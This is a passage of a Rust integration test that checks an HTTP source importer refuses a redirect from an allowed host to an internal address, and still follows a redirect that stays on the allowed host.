            "redirected",
            &[
                &format!("redirect to {secret_url} refused"),
                &internal.addr.to_string(),
                &classify(internal.addr.ip())
                    .expect("the tests' sources are internal")
                    .to_string(),
            ],
        )
        .await;
    record(
        "hostile tenant (internal address): an allowed host (address:port) answers 302 to another port of the same internal address",
        &format!(
            "Failed for good, Ready reason {}, the internal server saw no request: {message}",
            reason::ADDRESS_NOT_ALLOWED
        ),
    );
    assert!(allowed.requests() > 0, "the allowed host was asked");
    assert_eq!(internal.requests(), 0, "the redirect was not followed");

    // Redirects themselves are fine: one that stays on the allowed host is followed.
    let (bytes, spec) = template(&allowed, "public.img");
    let url = spec["source"]["http"]["url"].as_str().expect("url");
    rig.create(
        "followed",
        json!({"source": {"http": {"url": allowed.redirect("to-itself", url)}}, "checksum": spec["checksum"]}),
    )
    .await;
    rig.assert_copied("followed", &bytes).await;
}
